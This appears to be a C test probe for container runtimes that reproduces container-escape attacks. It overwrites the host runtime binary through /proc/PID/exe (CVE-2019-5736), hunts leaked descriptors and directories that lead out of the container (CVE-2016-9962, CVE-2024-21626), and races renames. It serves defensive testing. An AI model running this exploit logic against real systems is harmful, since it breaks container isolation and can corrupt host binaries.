/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack.c: what hostile code inside a container tries.
 *
 * Theory of operation
 * hunt-exe plays the CVE-2019-5736 attack. A process that runs the runtime's own binary inside the
 * container (an entrypoint "#!/proc/self/exe") can be seen in /proc. The hunter keeps a descriptor
 * of each foreign /proc/PID/exe, and once that process is gone (a running binary cannot be opened
 * for writing) opens it again for writing through /proc/self/fd. A success is written down with
 * the inode, and the file is damaged, so that the caller can see it from outside.
 *
 * hunt-host looks at every newcomer for a descriptor, working directory or root that leads out of
 * the container (CVE-2016-9962, CVE-2024-21626): a directory from which ".." ends anywhere but at
 * the container's own root.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

struct prey {
	dev_t device;
	ino_t inode;
	int fd;
	bool written;
};

static struct prey preys[64];
static int prey_count;
static long long seen, refused;
static int last_error;

static bool time_is_up(const char *stop, time_t end)
{
	return access(stop, F_OK) == 0 || time(NULL) >= end;
}

static void ready(void)
{
	puts("ready");
	fflush(stdout);
}

static bool known(const struct stat *st)
{
	for (int i = 0; i < prey_count; i++) {
		if (preys[i].device == st->st_dev && preys[i].inode == st->st_ino)
			return true;
	}
	return false;
}

/* Programs of the container's own root are not worth hunting. */
static bool is_local(const struct stat *st)
{
	static struct stat own, root;

	if (!own.st_ino && (stat("/proc/self/exe", &own) || stat("/", &root)))
		abort();
	if (st->st_dev == own.st_dev && st->st_ino == own.st_ino)
		return true;
	for (int i = 0; i < 2; i++) {
		static const char *const programs[] = {"/bin/busybox", "/bin/probe"};
		struct stat program;

		if (!stat(programs[i], &program) && st->st_dev == program.st_dev &&
		    st->st_ino == program.st_ino)
			return true;
	}
	return false;
}

static void look_at_exe(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) || is_local(&st)) {
		close(fd);
		return;
	}
	seen++;
	if (known(&st) || prey_count == 64) {
		close(fd);
		return;
	}
	preys[prey_count++] = (struct prey){st.st_dev, st.st_ino, fd, false};
}

static void strike(struct prey *prey)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", prey->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		refused++;
		if (errno != ETXTBSY)
			last_error = errno;
		return;
	}
	prey->written = pwrite(fd, "damaged", 7, 0) == 7;
	if (!prey->written)
		last_error = errno;
	close(fd);
}

static void for_each_process(void (*look)(const char *pid))
{
	static DIR *proc;
	struct dirent *entry;

	if (!proc && !(proc = opendir("/proc")))
		return;
	rewinddir(proc);
	while ((entry = readdir(proc))) {
		if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
			look(entry->d_name);
	}
}

/* hunt-exe STOPFILE SECONDS */
int command_hunt_exe(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 20);

	if (argc < 2)
		return 2;
	ready();
	while (!time_is_up(argv[1], end)) {
		for (int i = 0; i < 200; i++)
			for_each_process(look_at_exe);
		for (int i = 0; i < prey_count; i++)
			strike(&preys[i]);
	}
	json_object(NULL);
	json_number("seen", seen);
	json_number("refused", refused);
	json_string("error", errno_name(last_error));
	json_array("written");
	for (int i = 0; i < prey_count; i++) {
		if (preys[i].written)
			json_format(NULL, "%llu", (unsigned long long)preys[i].inode);
	}
	json_end();
	json_array("inodes");
	for (int i = 0; i < prey_count; i++)
		json_format(NULL, "%llu", (unsigned long long)preys[i].inode);
	json_end();
	json_end();
	return 0;
}

static const char *host_marker;

static struct {
	char what[256];
	char name[256];
} escapes[32];
static int escape_count;

/* Whether climbing from the directory ends elsewhere than at the own root; what is there. */
static bool leads_out(int fd, char *listing, size_t size)
{
	struct stat here = {0}, up, root;
	int current = fcntl(fd, F_DUPFD_CLOEXEC, 3);
	bool out;

	for (int depth = 0; current >= 0 && depth < 128; depth++) {
		int parent = openat(current, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);

		if (parent < 0 || fstat(current, &here) || fstat(parent, &up)) {
			close(current);
			return false;
		}
		close(current);
		current = parent;
		if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
			break;
	}
	out = !stat("/", &root) && (here.st_dev != root.st_dev || here.st_ino != root.st_ino) &&
	      faccessat(current, host_marker, F_OK, 0) == 0;
	if (out)
		snprintf(listing, size, "dev %llu ino %llu", (unsigned long long)here.st_dev,
			 (unsigned long long)here.st_ino);
	close(current);
	return out;
}

static void try_escape(const char *path)
{
	char where[256];
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0)
		return;
	seen++;
	if (leads_out(fd, where, sizeof(where)) && escape_count < 32) {
		snprintf(escapes[escape_count].what, sizeof(escapes[0].what), "%s", path);
		snprintf(escapes[escape_count++].name, sizeof(escapes[0].name), "%s", where);
	}
	close(fd);
}

static void look_for_escape(const char *pid)
{
	char path[300];
	struct dirent *entry;
	DIR *fds;

	refused++;
	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	try_escape(path);
	snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
	try_escape(path);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	fds = opendir(path);
	while (fds && (entry = readdir(fds))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%.20s/fd/%.20s", pid, entry->d_name);
		try_escape(path);
	}
	if (fds)
		closedir(fds);
}

/* hunt-host STOPFILE SECONDS MARKER: the marker is a path below the host's root, without '/'. */
int command_hunt_host(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 20);

	if (argc < 4)
		return 2;
	host_marker = argv[3];
	ready();
	while (!time_is_up(argv[1], end)) {
		for (int i = 0; i < 50; i++)
			for_each_process(look_for_escape);
	}
	json_object(NULL);
	json_number("processes", refused);
	json_number("opened", seen);
	json_object("escapes");
	for (int i = 0; i < escape_count; i++)
		json_string(escapes[i].what, escapes[i].name);
	json_end();
	json_end();
	return 0;
}

/* flip A B [STOPFILE]: exchanges the two names as fast as it can until killed or stopped. */
int command_flip(int argc, char **argv)
{
	unsigned long long count = 0;

	if (argc < 3)
		return 2;
	ready();
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
			fprintf(stderr, "flip: %s\n", errno_name(errno));
			return 1;
		}
		if (++count % 1024 == 0 && argc > 3 && access(argv[3], F_OK) == 0)
			break;
	}
	printf("%llu\n", count);
	return 0;
}
